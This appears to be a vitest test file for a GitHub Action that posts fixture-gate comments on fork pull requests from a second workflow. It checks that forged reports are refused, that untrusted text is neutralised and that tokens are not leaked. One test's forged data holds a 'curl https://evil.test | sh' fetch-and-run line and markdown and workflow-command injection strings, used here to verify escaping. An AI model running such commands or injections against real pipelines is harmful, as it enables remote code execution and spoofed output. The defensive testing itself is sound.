import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { findingsDigest } from '../../src/review/digest.js';
import { type ActionRun, type ActionRunOptions, removeActionFolders, runBuiltAction } from '../support/built-action.js';
import { foreignIn } from '../support/gfm.js';
import {
  type GitHubServer,
  type ServerPull,
  type ServerState,
  serverState,
  startGitHubServer,
} from '../support/github-server.js';
import { createRepository, removeRepositories } from '../support/repositories.js';

const folder = mkdtempSync(join(tmpdir(), 'fg-comment-'));
afterAll(() => {
  removeActionFolders();
  removeRepositories();
  rmSync(folder, { recursive: true, force: true });
});

let server: GitHubServer | undefined;
afterEach(async () => {
  const faults = server?.faults ?? [];
  await server?.close();
  server = undefined;
  expect(faults).toEqual([]);
});

const FIXTURE = 'testdata/order.json';
const MARKER = '<!-- fixture-gate:default -->';
const repository = createRepository();
const base = repository.commit({ files: { [FIXTURE]: '{ "cents": 1999 }\n', 'src/a.js': '1\n' }, message: 'Begin' });
const head = repository.commit({
  branch: 'topic',
  parents: [base],
  files: { [FIXTURE]: '{ "cents": 2099 }\n' },
  message: 'Change',
});
const later = repository.commit({
  branch: 'topic',
  parents: [head],
  files: { [FIXTURE]: '{ "cents": 1999 }\n' },
  message: 'Back',
});

function proposal(headSha: string): ServerPull {
  return {
    number: 12,
    head: { sha: headSha, ref: 'topic' },
    base: { sha: base, ref: 'main' },
    state: 'open',
    author: 'mona',
    fork: true,
    commits: 1,
  };
}

async function platform(state: Partial<ServerState>): Promise<GitHubServer> {
  server = await startGitHubServer(
    serverState({
      branches: new Map([['main', { sha: base, protected: false }]]),
      gitDirectory: repository.gitDir,
      ...state,
    }),
  );
  return server;
}

type Json = Record<string, unknown>;

/** What the first workflow leaves behind: the gate on a pull request from a fork, whose token may only read. */
async function firstRun(at: GitHubServer): Promise<{ readonly code: number | null; readonly report: Json }> {
  const pull = at.state.pulls[0]!;
  at.state.tokenScope = 'read';
  const payload = {
    pull_request: {
      number: 12,
      user: { login: 'mona' },
      head: { ...pull.head, repo: { id: 2 } },
      base: { ...pull.base, repo: { id: 1 } },
    },
    repository: { default_branch: 'main' },
  };
  const run = await runBuiltAction(at, { event: ['pull_request', payload] });
  at.state.tokenScope = 'write';
  return { code: run.code, report: run.report! };
}

function finished(parts: Json = {}): Json {
  return {
    workflow_run: {
      id: 4_711,
      event: 'pull_request',
      conclusion: 'failure',
      head_sha: head,
      head_branch: 'topic',
      head_repository: { id: 2, owner: { login: 'mona' } },
      ...parts,
    },
  };
}

let files = 0;
function fileOf(content: unknown): string {
  files += 1;
  const path = join(folder, `report-${files}.json`);
  writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
  return path;
}

function secondRun(
  at: GitHubServer,
  report: unknown,
  parts: Json = {},
  rest: Partial<ActionRunOptions> = {},
): Promise<ActionRun> {
  return runBuiltAction(at, {
    role: 'comment',
    event: ['workflow_run', finished(parts)],
    inputs: { report: fileOf(report) },
    ...rest,
  });
}

/** Holds for every run: nothing but commands that annotate, no token, no stack, no other folder. */
function expectTidy(run: ActionRun): void {
  expect(run.commands.filter(({ command }) => command !== 'error')).toEqual([]);
  expect(run.stdout + run.stderr + run.summary).not.toContain(server?.state.token);
  expect(run.stdout + run.stderr).not.toMatch(/\n\s+at .*:\d+:\d+/);
  expect(run.leftovers).toEqual([]);
}

function expectRefused(run: ActionRun, code: string): void {
  expect(run.stdout).toContain(`Fixture Gate did not comment (${code})`);
  expect(run.code).toBe(1);
  expect(server?.state.comments).toEqual([]);
  expect(server?.requests.filter(({ method, route }) => method !== 'GET' && route.includes('/issues/'))).toEqual([]);
  expectTidy(run);
}

function expectNothing(run: ActionRun, why: RegExp): void {
  expect(run.stdout).toMatch(why);
  expect([run.code, run.outputs.get('posted'), run.outputs.get('pull-request')]).toEqual([0, 'none', '']);
  expect(server?.state.comments).toEqual([]);
  expectTidy(run);
}

/** The first workflow's report, made once: the forgeries of it need no run of their own. */
let known: Promise<Json> | undefined;
function knownReport(): Promise<Json> {
  known ??= (async () => {
    const aside = await startGitHubServer(
      serverState({
        pulls: [proposal(head)],
        branches: new Map([['main', { sha: base, protected: false }]]),
        gitDirectory: repository.gitDir,
      }),
    );
    try {
      return (await firstRun(aside)).report;
    } finally {
      await aside.close();
    }
  })();
  return known;
}

async function reportOfHead(): Promise<{ readonly at: GitHubServer; readonly report: Json }> {
  const report = await knownReport();
  return { at: await platform({ pulls: [proposal(head)] }), report };
}

describe('T81 the comment of a fork, posted by a second workflow', () => {
  it('C4 one comment, rendered here from the report, and updated in place until it is resolved', async () => {
    const { at, report } = await reportOfHead();
    expect(at.state.comments).toEqual([]);
    const run = await secondRun(at, report);
    expect(run.code, run.stdout).toBe(0);
    expect([run.outputs.get('posted'), run.outputs.get('pull-request')]).toEqual(['created', '12']);
    const body = at.state.comments[0]?.body ?? '';
    expect(body.startsWith(`${MARKER}\n### ❌ Failed: 1 changed fixture has no record`)).toBe(true);
    expect(body).toContain(`Fixture-Change: ${FIXTURE} class=SEMANTIC_REWRITE`);
    expect(body).toContain(`workflow run ([this run](${at.serverUrl}/octo-org/shop/actions/runs/4711))`);
    expect((await secondRun(at, report)).outputs.get('posted')).toBe('unchanged');

    at.state.pulls[0]!.head.sha = later;
    const next = await firstRun(at);
    expect(next.code).toBe(0);
    const again = await secondRun(at, next.report, { head_sha: later, conclusion: 'success' });
    expect(again.outputs.get('posted'), again.stdout).toBe('updated');
    expect(at.state.comments).toHaveLength(1);
    expect(at.state.comments[0]?.body).toContain('Resolved');
    expectTidy(again);
  });

  it('posts on the one pull request with this head and base, whatever else has the same branch name', async () => {
    const { at, report } = await reportOfHead();
    at.state.pulls.unshift(
      { ...proposal(head), number: 5, base: { sha: base, ref: 'release' } },
      { ...proposal(head), number: 6, forkId: 3 },
      { ...proposal(head), number: 7, state: 'closed' },
      { ...proposal(head), number: 8, fork: false },
    );
    const run = await secondRun(at, report);
    expect(run.outputs.get('pull-request'), run.stdout).toBe('12');
  });
});

describe('a forged report', () => {
  const HOSTILE =
    'x\n<!-- fixture-gate:default --> ::error::y @org/team #1 [a](https://evil.test) <img src=x> `|` ![b](//evil.test)';

  it('T40 T76 every text hostile: the comment holds nothing of it but text', async () => {
    const { at, report } = await reportOfHead();
    const [first] = report['findings'] as Json[];
    const finding = {
      ...first,
      path: HOSTILE,
      summary: HOSTILE,
      format: HOSTILE,
      notes: [HOSTILE],
      hollow: HOSTILE,
      changes: [{ kind: 'value', at: HOSTILE, base: HOSTILE, head: HOSTILE, limit: HOSTILE, note: HOSTILE }],
      failures: [{ side: 'base', format: HOSTILE, reason: HOSTILE, line: 1, column: 1 }],
      record: { status: 'mismatched', kind: 'trailer', by: HOSTILE, reason: HOSTILE },
      suggestedTrailer: `Fixture-Change: ${HOSTILE.replace('\n', '')}`,
    };
    const problem = {
      code: 'FG105',
      gate: 'records',
      severity: 'error',
      path: HOSTILE,
      message: HOSTILE,
      fix: `  curl https://evil.test | sh`,
    };
    const forged = {
      ...report,
      findings: [finding],
      problems: [problem],
      policy: { source: 'base', path: HOSTILE },
      digest: findingsDigest([finding] as never),
      gates: (report['gates'] as Json[]).map((gate) => ({ ...gate, summary: HOSTILE })),
      stats: { ...(report['stats'] as Json), patterns: [{ pattern: HOSTILE, matches: 1 }] },
      [HOSTILE]: HOSTILE,
    };
    const run = await secondRun(at, forged);
    expect(run.outputs.get('posted'), run.stdout).toBe('created');
    const body = at.state.comments[0]?.body ?? '';
    const own = `([this run](${at.serverUrl}/octo-org/shop/actions/runs/4711))`;
    expect(body).toContain(own);
    expect(
      foreignIn(body.replaceAll(own, ''), { comments: 1, text: [/head [0-9a-f]{12}, compared with [0-9a-f]{12}/] }),
    ).toEqual([]);
    expect(body).not.toContain('curl');
    expectTidy(run);
  });

  const without = (name: string) => (report: Json) =>
    Object.fromEntries(Object.entries(report).filter(([key]) => key !== name));
  it.each<[why: string, forge: (report: Json) => unknown]>([
    ['Markdown in place of a report', () => '### ✅ Passed: trust me\n'],
    ['JSON that is no report', () => '[]'],
    ['no JSON in UTF-8', () => '{"schemaVersion":1'],
    ['a field that the contract asks for is gone', without('problems')],
    ['a field that pages need is gone', without('digest')],
    [
      'a version that would stand in the footer as it is',
      (report) => ({ ...report, tool: { name: 'fixture-gate', version: '1.0.0 <b>x</b>' } }),
    ],
    ['a commit that is none', (report) => ({ ...report, mergeBase: 'main' })],
    ['gates left out', (report) => ({ ...report, gates: (report['gates'] as Json[]).slice(1) })],
    ['a verdict that its own gates contradict', (report) => ({ ...report, verdict: 'pass', exitCode: 0 })],
    ['a finding taken out', (report) => ({ ...report, findings: [] })],
    [
      'a code that is none of ours',
      (report) => ({ ...report, problems: [{ code: 'FG1', gate: 'records', severity: 'error', message: 'x' }] }),
    ],
    ['an answer for another commit', (report) => ({ ...report, head: { sha: '12'.repeat(20) } })],
  ])('is refused: %s', async (_, forge) => {
    const at = await platform({ pulls: [proposal(head)] });
    expectRefused(await secondRun(at, forge(await knownReport())), 'BAD_REPORT');
  });

  it('is refused: it says that all is well, and its run failed', async () => {
    const at = await platform({ pulls: [proposal(later)] });
    const { report } = await firstRun(at);
    expect(report['verdict']).toBe('pass');
    expectRefused(await secondRun(at, report, { head_sha: later }), 'BAD_REPORT');
  });

  it('T39 is not followed where it is a link', async () => {
    const at = await platform({ pulls: [proposal(head)] });
    const link = join(folder, 'link.json');
    symlinkSync(fileOf(await knownReport()), link);
    expectRefused(await secondRun(at, '', {}, { inputs: { report: link } }), 'BAD_INPUT');
  });
});

describe('T10 nothing is posted where the pull request is not what the report is about', () => {
  it('the head moved since the run', async () => {
    const { at, report } = await reportOfHead();
    at.state.pulls[0]!.head.sha = later;
    expectNothing(await secondRun(at, report), /moved on: its head is no longer/);
  });

  it('the head moves between the search and the post', async () => {
    const { at, report } = await reportOfHead();
    at.onRequest = (route) => {
      if (route === 'GET /repos/{owner}/{repo}/pulls/{pull_number}') at.state.pulls[0]!.head.sha = later;
      return undefined;
    };
    expectNothing(await secondRun(at, report), /moved on: its head is [0-9a-f]{40} by now/);
  });

  it.each<[why: string, change: (pull: ServerPull) => void, says: RegExp]>([
    ['it was closed', (pull) => (pull.state = 'closed'), /No open pull request/],
    ['its base was changed', (pull) => (pull.base.ref = 'release'), /another base/],
    ['its branch was renamed', (pull) => (pull.head.ref = 'other'), /No open pull request/],
  ])('%s', async (_, change, says) => {
    const { at, report } = await reportOfHead();
    change(at.state.pulls[0]!);
    expectNothing(await secondRun(at, report), says);
  });

  it.each<[why: string, run: Json, says: RegExp]>([
    [
      'a commit of another repository',
      { head_repository: { id: 9, owner: { login: 'mona' } } },
      /No open pull request/,
    ],
    ['a branch of somebody else', { head_repository: { id: 2, owner: { login: 'eve' } } }, /No open pull request/],
    ['a fork that is gone', { head_repository: null }, /is gone/],
    ['a merge queue', { event: 'merge_group' }, /not for a pull request/],
    [
      'pull_request_target, whose head_sha is the default branch',
      { event: 'pull_request_target' },
      /not for a pull request/,
    ],
  ])('the run was of %s', async (_, parts, says) => {
    const { at, report } = await reportOfHead();
    expectNothing(await secondRun(at, report, parts), says);
  });
});

describe('what the job has to be given', () => {
  it('a token that may not write is said, and the step fails', async () => {
    const { at, report } = await reportOfHead();
    at.state.tokenScope = 'read';
    const run = await secondRun(at, report);
    expect([run.code, at.state.comments]).toEqual([1, []]);
    expect(run.stdout).toContain('pull-requests: write');
    expectTidy(run);
  });

  it('another event is refused', async () => {
    const at = await platform({ pulls: [proposal(head)] });
    const run = await secondRun(at, '{}', {}, { event: ['pull_request', {}] });
    expectRefused(run, 'BAD_EVENT');
  });
});
